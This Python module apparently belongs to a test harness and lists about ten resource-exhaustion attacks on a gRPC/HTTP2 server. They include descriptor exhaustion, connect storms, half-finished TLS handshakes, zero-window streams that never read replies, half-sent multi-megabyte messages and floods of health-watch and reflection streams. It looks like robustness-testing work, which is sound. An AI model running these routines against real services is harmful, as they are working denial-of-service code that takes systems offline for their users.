"""What a stranger makes the server hold: connections, half messages, replies, watches."""

import contextlib
import time

from attack import (
    DATA, END_HEADERS, END_STREAM, HEADERS, HELLO, MIB, PREFACE, SERVICE, Windows, frame, message_prefix, open_call,
    request_block, send_what_fits, settings, varint)


def descriptors_run_out(attack):
    """More connections than the server may have descriptors; closed again at half time."""
    half = time.monotonic() + (attack.end - time.monotonic()) / 2
    connections = attack.open_many(1500)
    time.sleep(max(0.0, half - time.monotonic()))
    for connection in connections:
        connection.close()
    attack.hold([])


def connect_and_close_storm(attack):
    while attack.goes_on():
        with contextlib.suppress(OSError):
            attack.open().close()


def half_tls_handshakes(attack):
    """The start of a ClientHello, held and renewed."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(32)
    while attack.goes_on():
        for connection in attack.open_many(300, hello):
            connection.close()


def replies_never_read(attack):
    """One connection, 32 streams, small requests with large answers, and a window that stays shut."""
    request = many_request()
    message = message_prefix(len(request)) + request
    while attack.goes_on():
        with contextlib.suppress(OSError), attack.open(PREFACE + settings(window=0)) as connection:
            for stream in range(1, 64, 2):
                connection.sendall(frame(HEADERS, END_HEADERS, stream, request_block(SERVICE + "ComputeMany")))
            for _ in range(64):
                for stream in range(1, 64, 2):
                    connection.sendall(frame(DATA, 0, stream, message))
            connection.settimeout(max(0.1, attack.end - time.monotonic()))
            while attack.goes_on() and connection.recv(1 << 16):
                pass
        time.sleep(0.01)


def many_request():
    """A ComputeManyRequest of some twenty bytes whose answer takes a megabyte."""
    from harness.api import pb
    request = pb.ComputeManyRequest(request_id=1)
    request.request.payload = b"x"
    request.request.spec.binning.even.bin_count = 65536
    request.request.spec.edges = True
    return request.SerializeToString()


def health_watch_names(attack):
    """Watches of names that are megabytes long."""
    from harness.api import open_channel
    name = b"n" * (8 * MIB)
    request = b"\x0a" + varint(len(name)) + name
    while attack.goes_on():
        channel = open_channel(attack.address)
        watch = channel.unary_stream("/grpc.health.v1.Health/Watch")
        calls = [watch(request) for _ in range(40)]
        time.sleep(min(5.0, max(0.0, attack.end - time.monotonic())))
        for call in calls:
            call.cancel()
        channel.close()


def reflection_streams(attack):
    """gRPC serves reflection with a thread for each open stream."""
    path = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
    first = HELLO + b"".join(frame(HEADERS, END_HEADERS, s, request_block(path)) for s in range(1, 201, 2))
    attack.hold(attack.open_many(8, first))


def idle_connections(attack):
    attack.hold(attack.open_many(10_000, HELLO))


def half_sent_messages(attack):
    """200 connections with 30 half messages each, which never end."""
    first = HELLO + b"".join(
        open_call("Compute", stream) + frame(DATA, 0, stream, message_prefix(8 * MIB) + b"x" * 2000)
        for stream in range(1, 61, 2))
    connections = attack.open_many(200, first)
    while attack.goes_on():
        for connection in connections:
            with contextlib.suppress(OSError):
                connection.setblocking(False)
                connection.send(frame(DATA, 0, 1, b"x" * 500))
        time.sleep(0.2)


def half_sent_large_messages(attack):
    """32 connections with 16 messages of 15 MiB each, sent as fast as windows open, all but the last byte."""
    size, streams = 15 * MIB, range(1, 33, 2)
    first = HELLO + b"".join(open_call("Compute", s) + frame(DATA, 0, s, message_prefix(size)) for s in streams)
    held = []
    while attack.goes_on():
        while len(held) < 32 and attack.goes_on():
            try:
                connection, windows = attack.open(first), Windows()
            except OSError:
                break
            for stream in streams:
                windows.take(stream, 5)
            held.append((connection, windows, dict.fromkeys(streams, size - 1)))
        for one in list(held):
            try:
                sent = send_what_fits(*one)
            except OSError:
                held.remove(one)
                one[0].close()
                continue
            if not sent:
                time.sleep(0.001)


def health_watches(attack):
    """2,000 watches of a name that there is not."""
    request = message_prefix(6) + b"\x0a\x04none"
    first = HELLO + b"".join(
        frame(HEADERS, END_HEADERS, stream, request_block("/grpc.health.v1.Health/Watch")) +
        frame(DATA, END_STREAM, stream, request) for stream in range(1, 201, 2))
    attack.hold(attack.open_many(20, first))


HOLDERS = (
    descriptors_run_out, idle_connections, connect_and_close_storm, half_tls_handshakes, half_sent_messages,
    half_sent_large_messages, replies_never_read, health_watch_names, health_watches, reflection_streams)
